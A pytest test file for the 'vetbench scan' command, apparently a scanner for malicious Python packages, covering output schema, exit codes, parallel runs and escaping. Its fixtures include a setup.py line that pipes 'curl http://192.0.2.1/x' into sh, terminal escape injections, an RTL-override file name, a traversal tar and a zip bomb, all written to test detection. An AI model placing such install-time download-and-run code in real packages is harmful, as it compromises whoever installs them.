"""``vetbench scan``: exit codes, the vetbench.scan/1 JSON lines, human output, bad inputs."""

from __future__ import annotations

import json
import subprocess
import sys

from app.cli import main
from tests.core.archive.fixtures import (
    make_sdist,
    make_traversal_tar,
    make_wheel,
    make_zip_ratio_bomb,
)

EVIL_SETUP = (
    b"import os\nfrom setuptools import setup\n"
    b"os.system('curl http://192.0.2.1/x | sh')\nsetup(name='evil')\n"
)


def run(capsys, *argv):
    code = main(["scan", *argv])
    out, err = capsys.readouterr()
    return code, out, err


def test_json_lines_schema_one_object_per_artifact(tmp_path, capsys):
    evil = make_sdist(tmp_path, name="evil", files={"setup.py": EVIL_SETUP})
    clean = make_wheel(tmp_path, name="clean")
    code, out, err = run(
        capsys, str(evil), str(clean), "--json", "--db", str(tmp_path / "c.sqlite")
    )
    assert code == 0 and err == ""
    docs = [json.loads(line) for line in out.splitlines()]
    assert len(docs) == 2
    for doc in docs:
        assert doc["schema"] == "vetbench.scan/1"
        assert set(doc) == {"schema", "target", "risk", "threats", "findings", "files", "errors"}
        assert set(doc["target"]) == {"path", "ecosystem", "name", "version", "sha256"}
        assert set(doc["files"]) == {"scanned", "code", "skipped"}
        for f in doc["findings"]:
            assert set(f) == {
                "capability",
                "severity",
                "path",
                "line",
                "end_line",
                "column",
                "match",
                "snippet",
                "rule",
                "explanation",
                "place",
                "decoded",
                "layers",
            }
    by_name = {d["target"]["name"]: d for d in docs}
    assert by_name["evil"]["risk"]["level"] in ("high", "critical")
    assert any(
        f["capability"] == "process.shell_download" and f["path"] == "setup.py" and f["line"] == 3
        for f in by_name["evil"]["findings"]
    )
    assert by_name["clean"]["risk"]["level"] in ("none", "low")


def test_fail_on_gives_exit_1_only_when_reached(tmp_path, capsys):
    evil = make_sdist(tmp_path, name="evil", files={"setup.py": EVIL_SETUP})
    clean = make_wheel(tmp_path, name="clean")
    db = str(tmp_path / "c.sqlite")
    assert run(capsys, str(evil), "--fail-on", "high", "--db", db)[0] == 1
    assert run(capsys, str(clean), "--fail-on", "high", "--db", db)[0] == 0
    assert run(capsys, str(evil), "--db", db)[0] == 0  # found something, but the scan ran


def test_human_output_groups_by_capability_with_path_and_line(tmp_path, capsys):
    evil = make_sdist(tmp_path, name="evil", files={"setup.py": EVIL_SETUP})
    code, out, _ = run(capsys, str(evil), "--no-cache")
    assert code == 0
    assert "risk: " in out and "process.shell_download [high]" in out
    assert "setup.py:3" in out


def test_single_unusable_input_is_one_line_and_exit_2(tmp_path, capsys):
    code, out, err = run(capsys, str(tmp_path / "missing.tar.gz"), "--no-cache")
    assert code == 2 and out == "" and len(err.strip().splitlines()) == 1
    junk = tmp_path / "junk.whl"
    junk.write_bytes(b"not an archive at all")
    code, out, err = run(capsys, str(junk), "--no-cache")
    assert code == 2 and "vetbench:" in err and len(err.strip().splitlines()) == 1


def test_unreadable_artifact_among_several_is_reported_and_others_scanned(tmp_path, capsys):
    evil = make_sdist(tmp_path, name="evil", files={"setup.py": EVIL_SETUP})
    junk = tmp_path / "junk.tar.gz"
    junk.write_bytes(b"\x1f\x8b broken")
    code, out, err = run(capsys, str(junk), str(evil), "--json", "--no-cache")
    assert code == 0
    docs = [json.loads(line) for line in out.splitlines()]
    assert docs[0]["errors"] and docs[0]["target"]["path"] == str(junk)
    assert docs[1]["risk"]["level"] in ("high", "critical") and not docs[1]["errors"]


def test_hostile_archives_finish_with_a_result_or_a_clear_error(tmp_path, capsys):
    traversal = make_traversal_tar(tmp_path)
    bomb = make_zip_ratio_bomb(tmp_path, size=8 * 1024**2)
    code, out, err = run(capsys, str(traversal), str(bomb), "--json", "--no-cache")
    assert code == 0
    docs = [json.loads(line) for line in out.splitlines()]
    assert len(docs) == 2
    assert docs[0]["files"]["scanned"] >= 1
    assert docs[1]["errors"] or docs[1]["files"]["skipped"]


def test_bad_allowlist_and_bad_jobs_are_usage_errors(tmp_path, capsys):
    wheel = make_wheel(tmp_path)
    bad = tmp_path / "allow.txt"
    bad.write_text("path * net.outbound\n")
    code, _, err = run(capsys, str(wheel), "--allowlist", str(bad), "--no-cache")
    assert code == 2 and "allow.txt:1" in err
    code, _, err = run(capsys, str(wheel), "--jobs", "-1", "--no-cache")
    assert code == 2


def test_jobs_uses_processes_and_gives_the_same_results(tmp_path):
    paths = [
        str(
            make_sdist(
                tmp_path, name=f"p{i}", files={"setup.py": EVIL_SETUP if i % 2 else b"X = 1\n"}
            )
        )
        for i in range(4)
    ]
    cmd = [sys.executable, "-m", "app.cli", "scan", *paths, "--json", "--no-cache"]
    one = subprocess.run(cmd + ["--jobs", "1"], capture_output=True, text=True, timeout=120)
    many = subprocess.run(cmd + ["--jobs", "2"], capture_output=True, text=True, timeout=120)
    assert one.returncode == many.returncode == 0
    levels = lambda out: [json.loads(x)["risk"]["level"] for x in out.splitlines()]  # noqa: E731
    assert levels(one.stdout) == levels(many.stdout)
    assert len(levels(one.stdout)) == 4
    # bigger artifacts start first, but the output keeps the command line's order
    assert [json.loads(x)["target"]["path"] for x in many.stdout.splitlines()] == paths


def test_archive_entries_escaping_the_folder_are_reported(tmp_path, capsys):
    code, out, _ = run(capsys, str(make_traversal_tar(tmp_path)), "--json", "--no-cache")
    doc = json.loads(out)
    assert code == 0
    assert any(
        f["capability"] == "fs.write_outside" and f["rule"] == "arc.escape" for f in doc["findings"]
    )


def test_json_stays_one_line_per_artifact_when_code_holds_unicode_line_separators(tmp_path, capsys):
    # U+2028 inside a string literal next to a hit: JSON allows it raw, line readers split on it
    code_text = "import os\nos.system('echo \u2028 done \u2029 \x85')\n".encode()
    evil = make_sdist(tmp_path, name="sep", files={"sep/__init__.py": code_text})
    clean = make_wheel(tmp_path, name="clean")
    code, out, _ = run(capsys, str(evil), str(clean), "--json", "--no-cache")
    assert code == 0
    lines = out.splitlines()
    assert len(lines) == 2
    doc = json.loads(lines[0])
    assert any("\u2028" in f["match"] for f in doc["findings"])


def test_ctrl_c_stops_a_parallel_scan_at_once_and_leaves_no_workers(tmp_path):
    import os
    import signal
    import time

    big = b"".join(
        b"def f%d(x):\n    return [x, '%d' * 3, {'k': x}]\n" % (i, i) for i in range(60000)
    )
    # 40 artifacts of about 0.2 CPU s each: still busy when Ctrl+C comes (10 of them once
    # took longer than the 2 s below; the scan has since become fast enough to finish first)
    paths = [
        str(make_sdist(tmp_path, name=f"slow{i}", files={f"slow{i}/gen.py": big}))
        for i in range(40)
    ]
    proc = subprocess.Popen(
        [sys.executable, "-m", "app.cli", "scan", *paths, "--json", "--no-cache", "--jobs", "2"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    time.sleep(2.0)  # the workers are busy with the first artifacts
    os.killpg(proc.pid, signal.SIGINT)  # what Ctrl+C in a terminal does
    start = time.monotonic()
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 130 and "interrupted" in err and "Traceback" not in err, (
        proc.returncode,
        len(out.splitlines()),
        err[-600:],
    )
    assert time.monotonic() - start < 1.5  # not after working through the queue
    assert len(out.splitlines()) < len(paths)
    leftovers = []
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                if str(tmp_path).encode() in fh.read():
                    leftovers.append(pid)
        except OSError:
            continue
    assert leftovers == []


def test_human_output_escapes_what_a_terminal_would_act_on(tmp_path, capsys):
    setup = (
        b"import os\nfrom setuptools import setup\n"
        b"os.system('curl http://192.0.2.1/x | sh # \x1b]0;pwned\x07 \xe2\x80\xae')\n"
        b"setup(name='evil')\n"
    )
    evil = make_sdist(tmp_path, name="evil", files={"setup.py": setup, "l\u202egnp.py": setup})
    code, out, _ = run(capsys, str(evil), "--no-cache")
    assert code == 0
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\x1b]0;pwned\\x07 \\u202e" in out and "l\\u202egnp.py:3" in out
